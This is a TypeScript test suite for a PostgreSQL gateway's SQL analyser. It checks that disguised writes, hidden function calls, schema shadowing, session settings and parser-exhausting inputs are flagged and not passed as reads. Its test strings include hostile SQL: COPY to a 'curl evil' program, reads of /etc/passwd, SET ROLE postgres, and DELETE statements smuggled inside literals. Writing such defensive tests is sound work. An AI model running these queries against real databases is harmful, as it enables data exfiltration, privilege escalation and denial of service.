import { describe, expect, test } from 'vitest'
import { Unknown } from '../../../../src/core/action.ts'
import { createAnalyser } from '../../../../src/protocols/postgres/sql/analyse.ts'
import type { Statement } from '../../../../src/protocols/postgres/sql/statement.ts'
import { openShop, words } from './support.ts'

/** Attack class 20: SQL that the gateway reads differently from the server. */

const shop = openShop()

describe('writes that hide in reads', () => {
  test.each([
    ['in a WITH', 'WITH d AS (DELETE FROM plain RETURNING 1) SELECT * FROM d'],
    ['in a WITH that nobody uses', 'WITH d AS (DELETE FROM plain) SELECT 1'],
    [
      'in a WITH within a WITH',
      'WITH a AS (WITH b AS (DELETE FROM plain RETURNING 1) SELECT * FROM b) SELECT 1',
    ],
    ['in EXPLAIN ANALYZE', 'EXPLAIN (ANALYZE, COSTS off) DELETE FROM plain'],
    ['in EXPLAIN ANALYZE, spelt otherwise', "EXPLAIN (analyze 'on') DELETE FROM plain"],
    ['in EXPLAIN with two words on it', 'EXPLAIN (ANALYZE off, ANALYZE) DELETE FROM plain'],
    ['in COPY', 'COPY (UPDATE plain SET a = 1 RETURNING a) TO STDOUT'],
    ['in PREPARE', 'PREPARE p AS DELETE FROM plain'],
    [
      'in CREATE TABLE AS',
      'CREATE TEMP TABLE t AS WITH d AS (DELETE FROM plain RETURNING 1) SELECT 1',
    ],
    ['in SELECT INTO', 'SELECT id INTO copied FROM plain'],
    ['after a read', 'SELECT 1; DELETE FROM plain'],
    ['after a comment', 'SELECT 1 /* ; */ ; -- x\n DELETE FROM plain'],
    ['as a lock', 'SELECT * FROM plain FOR SHARE'],
    ['in a subquery of INSERT', 'INSERT INTO notes (id) SELECT id FROM plain'],
  ])('%s', async (_, text) => {
    const { effect } = await shop.read(text)
    expect(['write', 'admin']).toContain(effect)
  })

  test('EXECUTE is what was prepared; of an unknown name it is anything', async () => {
    const { statements } = await shop.read('PREPARE p AS DELETE FROM plain WHERE id = $1')
    const [change] = statements[0]!.session
    if (change?.kind !== 'prepare') throw new Error('PREPARE announces a statement')
    const prepared = new Map<string, Statement>([['p', change.prepared]])
    for (const text of ['EXECUTE p (1)', 'EXPLAIN ANALYZE EXECUTE p (1)']) {
      const known = await shop.read(text, { prepared })
      expect(known.effect).toBe('write')
      expect(words(known.sql.tables_written)).toBe('plain')
      expect(words(known.sql.verb)).toContain('delete')
      expect((await shop.read(text)).effect).toBe('unknown')
    }
    expect((await shop.read('CREATE TABLE t AS EXECUTE p (1)', { prepared })).effect).toBe('admin')
    expect((await shop.read('EXECUTE p (spend(1))', { prepared })).effect).toBe('unknown')
  })

  test('FETCH belongs to its DECLARE; from a cursor that nobody announced it is anything', async () => {
    const { statements } = await shop.read(
      'DECLARE c CURSOR WITH HOLD FOR SELECT ssn FROM customers',
    )
    const [change] = statements[0]!.session
    if (change?.kind !== 'declare') throw new Error('DECLARE announces a query')
    expect(change.hold).toBe(true)
    const cursors = new Map([['c', change.query]])
    const known = await shop.read('FETCH 10 FROM c', { cursors })
    expect(words(known.sql.columns)).toBe('customers.ssn')
    expect({ effect: known.effect, limit: known.sql.limit }).toEqual({ effect: 'read', limit: 10 })
    expect((await shop.read('FETCH ALL FROM c')).effect).toBe('unknown')
    const explained = await shop.read('EXPLAIN ANALYZE DECLARE c CURSOR FOR SELECT 1')
    expect(explained.statements[0]?.session).toEqual([])
  })
})

describe('functions that do what nobody can see', () => {
  test.each([
    ["SELECT query_to_xml('DELETE FROM plain', true, true, '')", 'unknown'],
    ["SELECT table_to_xml('salaries', true, true, '')", 'unknown'],
    ["SELECT ts_stat('SELECT 1')", 'unknown'],
    ["SELECT ts_rewrite('a'::tsquery, 'SELECT 1')", 'unknown'],
    ["SELECT crosstab('DELETE FROM plain')", 'unknown'],
    ["SELECT dblink('DELETE FROM plain')", 'unknown'],
    ["SELECT * FROM dblink('x', 'SELECT 1') AS t(a int)", 'unknown'],
    ["SELECT pg_read_file('/etc/passwd')", 'admin'],
    ["SELECT pg_ls_dir('.')", 'admin'],
    ["SELECT lo_import('/etc/passwd')", 'admin'],
    ['SELECT lo_create(1)', 'write'],
    ['SELECT pg_terminate_backend(1)', 'admin'],
    ['SELECT pg_reload_conf()', 'admin'],
    ['SELECT spend(1)', 'unknown'],
    ['SELECT looks_calm(1)', 'unknown'], // immutable by its own word alone
    ['SELECT * FROM plain WHERE spend(id) = 1', 'unknown'],
    ['SELECT * FROM plain ORDER BY spend(id)', 'unknown'],
    ['SELECT * FROM plain LIMIT spend(1)', 'unknown'],
    ['SELECT count(*) FILTER (WHERE spend(id) = 1) FROM plain', 'unknown'],
    ['SELECT sum(a) OVER (ORDER BY spend(id)) FROM plain', 'unknown'],
    ['SELECT CASE WHEN spend(1) = 1 THEN 1 END', 'unknown'],
    ['SELECT ARRAY[spend(1)]', 'unknown'],
    ['SELECT * FROM spend(1)', 'unknown'],
    ['SELECT * FROM ROWS FROM (spend(1), generate_series(1, 2))', 'unknown'],
    ["SELECT json_object('a': spend(1))", 'unknown'],
    ['INSERT INTO notes (tags[spend(1)]) VALUES (NULL)', 'unknown'],
    [
      "WITH RECURSIVE r AS (SELECT 1 AS n) CYCLE n SET c TO checked '1' DEFAULT checked '2' USING p SELECT * FROM r",
      'unknown',
    ],
    ['VALUES (spend(1))', 'unknown'],
    ['EXPLAIN SELECT looks_calm(1)', 'unknown'], // planning evaluates it
    ['SELECT pg_sleep(1)', 'unknown'],
    ['SELECT a_function_of_tomorrow()', 'unknown'],
    ['SELECT pg_catalog.a_function_of_tomorrow()', 'unknown'],
    ['DO $$ BEGIN DELETE FROM plain; END $$', 'unknown'],
    ['CALL tidy()', 'unknown'],
    ["COPY plain TO PROGRAM 'curl evil'", 'unknown'],
    ["COPY plain FROM '/etc/passwd'", 'admin'],
    ["COPY (SELECT 1) TO '/tmp/x'", 'admin'],
    ["LOAD 'x'", 'admin'],
  ])('%s is %s', async (text, expected) => {
    const { effect, sql } = await shop.read(text)
    expect(effect).toBe(expected)
    // Whatever it may touch: a hold or deny rule on any table is asked.
    const hidden =
      sql.reached instanceof Unknown || /lo_|sleep|terminate|reload|LOAD|COPY/.test(text)
    expect(hidden).toBe(true)
  })

  test('functions that have no effect stay reads', async () => {
    const text = `SELECT lower(name), now(), coalesce(ssn, ''), count(*) OVER (), a.n::int, extract(year FROM now()),
      current_user, string_agg(email, ','), pg_get_viewdef('glad_customers'::regclass), to_jsonb(c)
      FROM customers c, generate_series(1, 3) a(n)`
    expect((await shop.read(text)).effect).toBe('read')
  })
})

describe('names that mean something else', () => {
  test('a function of another schema with the name of a harmless one', async () => {
    expect((await shop.read('SELECT lower(1)')).effect).toBe('read')
    const searchPath = ['public', 'shadow']
    const { effect, sql } = await shop.read('SELECT lower(1)', { searchPath })
    expect(effect).toBe('unknown')
    expect(words(sql.functions)).toBe('pg_catalog.lower shadow.lower')
    expect((await shop.read('SELECT pg_catalog.lower(1)', { searchPath })).effect).toBe('read')
  })

  test('an operator of another schema', async () => {
    expect((await shop.read('SELECT 1 + 1')).effect).toBe('read')
    const searchPath = ['public', 'crm']
    expect((await shop.read('SELECT 1 + 1', { searchPath })).effect).toBe('unknown')
    expect((await shop.read('SELECT 1 OPERATOR(pg_catalog.+) 1', { searchPath })).effect).toBe(
      'read',
    )
    expect((await shop.read('SELECT 1 OPERATOR(crm.+) 1')).effect).toBe('unknown')
  })

  test('a table by the search path, and a temporary one in front of it', async () => {
    const crm = await shop.read('SELECT email FROM people', { searchPath: ['crm', 'public'] })
    expect(words(crm.sql.tables)).toBe('crm.people')
    const temporary = new Map([['plain', 'table' as const]])
    const both = await shop.read('SELECT a FROM plain', { temporary })
    expect(words(both.sql.tables)).toBe('pg_temp.plain plain')
    const view = new Map([['plain', 'other' as const]])
    const hidden = await shop.read('SELECT a FROM plain', { temporary: view })
    expect([hidden.effect, words(hidden.sql.tables)]).toEqual(['unknown', '?'])
  })

  test('a temporary type in front of one of the system', async () => {
    const temporary = new Map([['date', 'other' as const]])
    expect((await shop.read("SELECT '2024-01-01'::date")).effect).toBe('read')
    expect((await shop.read("SELECT '2024-01-01'::date", { temporary })).effect).toBe('unknown')
  })

  test('statements that create such names say so', async () => {
    const created = async (text: string) =>
      (await shop.read(text)).statements.flatMap(({ session }) =>
        session.filter(({ kind }) => kind === 'temporary'),
      )
    expect(await created('CREATE TEMP TABLE t (id int)')).toMatchObject([
      { name: 't', is: 'table' },
    ])
    expect(await created('CREATE TABLE pg_temp.t (id int)')).toMatchObject([{ name: 't' }])
    expect(await created('CREATE TEMP VIEW v AS SELECT 1')).toMatchObject([
      { name: 'v', is: 'other' },
    ])
    expect(await created('CREATE DOMAIN pg_temp.date AS text')).toMatchObject([{ name: 'date' }])
    expect(await created('SELECT 1 INTO TEMP t')).toMatchObject([{ name: 't', is: 'table' }])
  })

  test('a function in the form of a column', async () => {
    expect((await shop.read('SELECT c.row_code FROM customers c')).effect).toBe('unknown')
    expect((await shop.read('SELECT (c).row_code FROM customers c')).effect).toBe('unknown')
    expect((await shop.read("SELECT ('/etc/passwd'::text).pg_read_file")).effect).toBe('admin')
    const whole = await shop.read('SELECT email(c) FROM customers c')
    expect(words(whole.sql.columns)).toContain('customers.ssn')
  })

  test('a view, a policy, a domain and a rule bring their code along', async () => {
    expect((await shop.read('SELECT * FROM spending')).effect).toBe('unknown')
    expect((await shop.read('SELECT * FROM guarded')).effect).toBe('unknown')
    expect((await shop.read('SELECT * FROM calm_guarded')).effect).toBe('read')
    expect((await shop.read("SELECT '1'::checked")).effect).toBe('unknown')
    expect((await shop.read("SELECT '1'::unchecked, 'glad'::mood")).effect).toBe('read')
    expect((await shop.read('INSERT INTO ruled VALUES (1)')).effect).toBe('unknown')
    const triggered = await shop.read('UPDATE watched SET id = 2 WHERE id = 1')
    expect(triggered.effect).toBe('write')
    expect(triggered.statements[0]?.undoable).toMatchObject({ because: expect.any(String) })
  })

  test('what the catalogue does not know, and everything without a catalogue', async () => {
    const missing = await shop.read('SELECT * FROM created_since')
    expect([missing.effect, words(missing.sql.tables), missing.missing]).toEqual([
      'unknown',
      '?',
      ['public.created_since'],
    ])
    for (const text of ['SELECT 1 + 1', 'SELECT a FROM plain', 'SELECT lower($1)']) {
      expect((await shop.read(text, { catalogue: null })).effect).toBe('unknown')
    }
    const simple = await shop.read('SELECT pg_catalog.now()', { catalogue: null })
    expect(simple.effect).toBe('read')
  })

  test('what the owner of the resource declares harmless is read', async () => {
    const harmless = new Set(['public.looks_calm'])
    expect((await shop.read('SELECT looks_calm(1)', { harmless })).effect).toBe('read')
    expect((await shop.read('SELECT spend(1)', { harmless })).effect).toBe('unknown')
  })
})

describe('settings that change what later text means', () => {
  test.each([
    'SET standard_conforming_strings = off',
    'SET enable_tenant.id = 1',
    "SET client_encoding = 'SJIS'",
    "SET NAMES 'SJIS'",
    'SET search_path TO crm',
    "SET SCHEMA 'crm'",
    'SET ROLE postgres',
    'RESET ROLE',
    'SET SESSION AUTHORIZATION postgres',
    'SET session_replication_role = replica',
    "SET app.tenant = '2'",
    "SET a_setting_of_tomorrow = '1'",
    'SET row_security = on',
    "SELECT set_config('standard'||'_conforming_strings', 'off', false)",
    "SELECT set_config(name, '1', false) FROM customers",
    "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
    "UPDATE pg_catalog.pg_settings SET setting = 'off'",
    'ALTER ROLE agents SET standard_conforming_strings = off',
  ])('%s is never harmless', async (text) => {
    const { effect, statements } = await shop.read(text)
    expect(['admin', 'unknown']).toContain(effect)
    expect(statements[0]?.control).toBe(false)
  })

  test('each says what it sets, also within a query', async () => {
    const set = async (text: string) => (await shop.read(text)).statements[0]!.session
    expect(await set('SET LOCAL search_path = crm, "$user"')).toEqual([
      {
        kind: 'set',
        name: 'search_path',
        values: ['crm', '$user'],
        local: true,
        harmless: false,
      },
    ])
    expect(await set("SELECT set_config('search_path', 'crm', true)")).toMatchObject([
      { kind: 'set', name: 'search_path', values: ['crm'], local: true, harmless: false },
    ])
    expect(await set("SELECT set_config('x'||'y', 'z', true)")).toMatchObject([
      { kind: 'set', name: null, values: null, harmless: false },
      { kind: 'opaque' },
    ])
  })
})

describe('texts that cannot be read', () => {
  test.each([
    ['not SQL', 'SELEC 1', 'syntax'],
    ['a NUL, behind which a statement could hide', 'SELECT 1 \0; DELETE FROM plain', 'text'],
    ['half a surrogate pair', "SELECT '\ud800'", 'text'],
    ['100,000 terms', `SELECT ${'1+'.repeat(100_000)}1`, 'too-deep'],
    ['100,000 parentheses', `SELECT ${'('.repeat(100_000)}1${')'.repeat(100_000)}`, 'too-deep'],
    [
      '30,000 terms, which fit into the ordinary parser',
      `SELECT ${'1+'.repeat(30_000)}1`,
      'too-deep',
    ],
    ['an end that is missing', "SELECT 'a", 'syntax'],
  ])('%s', async (_, text, kind) => {
    const { effect, sql, unreadable, statements } = await shop.read(text)
    expect({ effect, kind: unreadable?.kind, statements }).toEqual({
      effect: 'unknown',
      kind,
      statements: [],
    })
    for (const value of Object.values(sql)) expect(value).toBeInstanceOf(Unknown)
  })

  test('none of them harms the parser', async () => {
    for (let i = 0; i < 40; i++) await shop.read(`SELECT ${i}${'+1'.repeat(30_000)}`)
    expect((await shop.read('SELECT a FROM plain WHERE id = 77')).effect).toBe('read')
  })

  test.each([
    [
      'in brackets',
      (inner: string) => `(WITH x AS (UPDATE t SET (a, b) = ${inner} RETURNING 1) SELECT 1, 2)`,
      30,
    ],
    [
      'behind comments',
      (inner: string) =>
        `(WITH x AS (update t SET (a, b) /* ) */ = ${inner} RETURNING ')') SELECT 1, 2)`,
      30,
    ],
    [
      'of many columns',
      (inner: string) =>
        `(WITH x AS (UPDATE t SET (${'a, '.repeat(300)}b) = ${inner} RETURNING 1) SELECT 1)`,
      3,
    ],
  ])('a text of 1 KB that the parser would make gigabytes of: %s', async (_, around, depth) => {
    const nested = Array.from({ length: depth }).reduce<string>(
      (inner) => around(inner),
      '(SELECT 1, 2)',
    )
    const { unreadable } = await shop.read(`SELECT * FROM ${nested} y`)
    expect(unreadable?.kind).toBe('too-deep')
  })

  test('the same within measure is read, and rows that are compared are nothing of the kind', async () => {
    const pairs = Array.from({ length: 500 }, (_, i) => `(a, b) = (${i}, ${i})`).join(' OR ')
    expect((await shop.read(`UPDATE plain SET a = 1 WHERE ${pairs}`)).effect).toBe('write')
    expect((await shop.read('UPDATE plain SET (a, b) = (SELECT a, b FROM plain)')).effect).toBe(
      'write',
    )
  })

  test('a long text is read in a thread of its own', async () => {
    const rows = Array.from({ length: 20_000 }, (_, i) => `(${i}, 'some text')`).join(', ')
    const long = await shop.read(`INSERT INTO customers (id, name) VALUES ${rows}; SELECT nope()`)
    expect([long.effect, words(long.sql.tables_written)]).toEqual(['unknown', 'customers'])
    expect(long.sql.reached).toBeInstanceOf(Unknown)
  })

  test('a text that takes too long is given up, and the next one gets a new thread', async () => {
    const hasty = await createAnalyser({ longAbove: 10, longTimeout: 1 })
    const given = await hasty.analyse('SELECT * FROM plain', shop.context)
    expect([given.effect, given.unreadable?.kind]).toEqual(['unknown', 'too-long'])
    await hasty.close()
    const patient = await createAnalyser({ longAbove: 10 })
    const read = await patient.analyse('SELECT * FROM nowhere', shop.context)
    expect([read.effect, read.missing]).toEqual(['unknown', ['public.nowhere']])
    expect(read.sql.tables).toBeInstanceOf(Unknown)
    // The thread has the catalogue by now, and forgets it when there is another.
    expect((await patient.analyse('SELECT a FROM plain', shop.context)).effect).toBe('read')
    const none = { ...shop.context, catalogue: null }
    expect((await patient.analyse('SELECT a FROM plain', none)).effect).toBe('unknown')
    expect((await patient.analyse('SELECT a FROM plain', shop.context)).effect).toBe('read')
    await patient.close()
  })

  test('strings are read as the server reads them', async () => {
    const text = String.raw`SELECT 'a\' || '; DELETE FROM plain; --' FROM plain`
    const { statements, effect } = await shop.read(text)
    expect([statements.length, effect]).toEqual([1, 'read'])
    const dollars = await shop.read(
      'SELECT $x$; DELETE FROM plain; $x$, U&"\\0061" FROM (SELECT 1 AS a) s',
    )
    expect([dollars.statements.length, dollars.effect]).toEqual([1, 'read'])
    const escaped = await shop.read(String.raw`SELECT E'a\'; DELETE FROM plain; --'`)
    expect([escaped.statements.length, escaped.effect]).toEqual([1, 'read'])
  })
})
